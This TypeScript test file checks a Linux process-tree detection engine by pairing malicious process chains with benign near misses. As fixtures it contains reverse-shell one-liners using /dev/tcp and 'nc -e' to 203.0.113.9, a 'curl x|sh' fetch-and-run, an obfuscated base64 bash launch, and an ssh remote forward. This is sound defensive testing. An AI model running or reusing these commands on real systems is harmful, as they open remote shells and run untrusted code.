import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ProcessRecord } from '../../../../agent/sources/types.js';
import { Harness, firer } from './harness.js';

type P = Partial<ProcessRecord> & { name: string };
const bin = (name: string, extra: Partial<ProcessRecord> = {}): P => ({ name, executable: `/usr/bin/${name}`, ...extra });
const h = new Harness('linux');
const engine = h.engine({ baseline: { enabled: false } });

const fire = firer(h, engine);

const cases: { rule: string; hit: P[]; miss: P[] }[] = [
  { rule: 'pw-lnx-webserver-shell', hit: [bin('nginx'), bin('sh', { commandLine: 'sh -c id' })], miss: [bin('nginx'), bin('nginx', { commandLine: 'nginx: worker process' })] },
  { rule: 'pw-lnx-webserver-shell', hit: [bin('apache2'), bin('python3', { commandLine: 'python3 -c x' })], miss: [bin('apache2'), bin('sh', { commandLine: 'sh -c /usr/bin/rotatelogs /var/log/a 86400' })] },
  { rule: 'pw-lnx-database-shell', hit: [bin('postgres', { commandLine: 'postgres: alice db [local] idle' }), bin('bash', { commandLine: 'bash -c curl x|sh' })], miss: [bin('postgres', { commandLine: 'postgres: archiver' }), bin('sh', { commandLine: 'sh -c cp pg_wal/x /archive/x' })] },
  { rule: 'pw-lnx-java-appserver-shell', hit: [bin('java', { commandLine: 'java -cp bootstrap.jar org.apache.catalina.startup.Bootstrap start' }), bin('bash')], miss: [bin('java', { commandLine: 'java -jar gradle-wrapper.jar build' }), bin('bash')] },
  { rule: 'pw-lnx-sshd-unusual-child', hit: [bin('sshd'), bin('python3', { commandLine: 'python3 /tmp/x.py' })], miss: [bin('sshd'), bin('bash', { commandLine: '-bash' })] },
  { rule: 'pw-lnx-kthreadd-user-binary', hit: [{ name: 'kthreadd' }, { name: 'kworker/0:1', executable: '/var/tmp/.x/kworker' }], miss: [{ name: 'kthreadd' }, { name: 'modprobe', executable: '/usr/sbin/modprobe' }] },
  { rule: 'pw-lnx-exec-from-temp', hit: [bin('bash'), { name: 'xmrig', executable: '/dev/shm/xmrig' }], miss: [bin('go'), { name: 'main', executable: '/tmp/go-build3921/b001/exe/main' }] },
  { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'x', executable: '/memfd:payload', executableDeleted: true }], miss: [bin('systemd'), { name: 'sshd', executable: '/usr/sbin/sshd', executableDeleted: true }] },
  { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'x', executable: '/memfd:x' }], miss: [bin('containerd-shim'), { name: 'runc', executable: '/memfd:runc_cloned:/proc/self/exe', executableDeleted: true }] },
  { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'dropper', executable: '/home/a/.cache/dropper', executableDeleted: true }], miss: [bin('bash'), { name: 'dropper', executable: '/home/a/.cache/dropper' }] },
  { rule: 'pw-reverse-shell-cmdline', hit: [bin('java'), bin('bash', { commandLine: 'bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}' })], miss: [bin('make'), bin('bash', { commandLine: 'bash -c echo aGk= | base64 -d > out.txt' })] },
  { rule: 'pw-reverse-shell-cmdline', hit: [bin('cron'), bin('bash', { commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' })], miss: [bin('cron'), bin('bash', { commandLine: 'bash -c cat /dev/null' })] },
  { rule: 'pw-reverse-shell-cmdline', hit: [bin('sh'), bin('nc', { commandLine: 'nc 203.0.113.9 443 -e /bin/sh' })], miss: [bin('sh'), bin('nc', { commandLine: 'nc -zv db 5432' })] },
  { rule: 'pw-lnx-shell-tcp-stdin', hit: [bin('nc'), bin('sh', { stdin: 'tcp' })], miss: [bin('node'), bin('sh', { stdin: 'socket' })] },
  { rule: 'pw-ssh-remote-forward', hit: [bin('bash'), bin('ssh', { commandLine: 'ssh -N -R 2222:localhost:22 relay@203.0.113.9' })], miss: [bin('bash'), bin('ssh', { commandLine: 'ssh -L 5432:db:5432 bastion' })] },
];

for (const c of cases) {
  test(`${c.rule}: ${c.hit.map((p) => p.name).join(' -> ')} fires, ${c.miss.map((p) => p.name).join(' -> ')} does not`, () => {
    assert.ok(fire(...c.hit).includes(c.rule), `expected ${c.rule}`);
    assert.ok(!fire(...c.miss).includes(c.rule), `no ${c.rule} on the near miss`);
  });
}

test('Linux names are case-sensitive: NGINX is not nginx', () => {
  assert.ok(!fire(bin('NGINX'), bin('sh')).includes('pw-lnx-webserver-shell'));
});

test('a developer shell tree (bash -> python3 -m http.server) raises nothing', () => {
  assert.deepEqual(fire(bin('sshd'), bin('bash'), bin('python3', { commandLine: 'python3 -m http.server --bind 127.0.0.1 8000' })), []);
});

test('PostgreSQL reading the locales at initdb (popen "locale -a", seen by the benign live corpus) is not a database shell; a command around it is', () => {
  const single = bin('postgres', { commandLine: '/usr/lib/postgresql/15/bin/postgres --single -F -O -j -c search_path=pg_catalog -c exit_on_error=true template1' });
  assert.ok(!fire(single, bin('sh', { commandLine: "sh -c 'locale -a'" })).includes('pw-lnx-database-shell'));
  assert.ok(fire(single, bin('sh', { commandLine: "sh -c 'locale -a; id'" })).includes('pw-lnx-database-shell'));
});
